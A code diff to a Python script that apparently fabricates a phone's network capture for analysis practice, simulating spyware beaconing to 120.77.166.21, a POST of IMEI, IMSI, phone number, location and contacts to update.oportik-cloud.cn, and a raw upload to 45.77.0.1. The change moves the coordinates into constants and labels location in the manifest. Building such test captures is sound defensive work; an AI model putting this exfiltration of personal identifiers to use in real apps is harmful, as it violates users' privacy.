@@ -23,6 +23,7 @@ rng = random.Random(2025)
 T0 = 1741942800.0  # 2025-03-14T09:00:00Z
 PHONE = "192.168.1.23"
 IMEI, IMSI, MSISDN = "356938035643809", "208150123456789", "+33612345678"
+LAT, LON = 48.8566, 2.3522
 cap = Capture(rng, device=PHONE, router="192.168.1.1")
 manifest = {"device": {"mac": "02:a4:c2:11:33:02", "ip": PHONE, "hostname": "mini-phone-x9", "vendor_class": "android-dhcp-9"},
             "dns": cap.dns_log, "tls": [], "beacons": [], "uploads": [], "flows": cap.flow_log}
@@ -59,7 +60,7 @@ def main():
         c.close()
         manifest["beacons"].append({"time": bt, "server": "120.77.166.21", "port": 8080})
     # The identifier upload.
-    body = json.dumps({"imei": IMEI, "imsi": IMSI, "msisdn": MSISDN, "lat": 48.8566, "lon": 2.3522,
+    body = json.dumps({"imei": IMEI, "imsi": IMSI, "msisdn": MSISDN, "lat": LAT, "lon": LON,
                        "contacts": ["+33698765432", "+33145678901"], "sms_count": 214}).encode()
     c = cap.tcp(start + 125, "120.77.166.21", 52000, 80)
     c.send(b"POST /api/v2/report HTTP/1.1\r\nHost: update.oportik-cloud.cn\r\nUser-Agent: okhttp/3.12.1\r\n"
@@ -68,7 +69,8 @@ def main():
     c.close()
     manifest["uploads"].append({"time": start + 125, "server": "120.77.166.21", "host": "update.oportik-cloud.cn",
                                 "path": "/api/v2/report",
-                                "identifiers": {"imei": IMEI, "imsi": IMSI, "msisdn": MSISDN}, "body_bytes": len(body)})
+                                "identifiers": {"imei": IMEI, "imsi": IMSI, "msisdn": MSISDN, "location": f"{LAT},{LON}"},
+                                "body_bytes": len(body)})
     # A hard-coded address, no DNS: a raw 24 KB upload.
     c = cap.tcp(start + 300, "45.77.0.1", 53000, 5555)
     c.send(bytes(rng.randrange(256) for _ in range(24_000)))
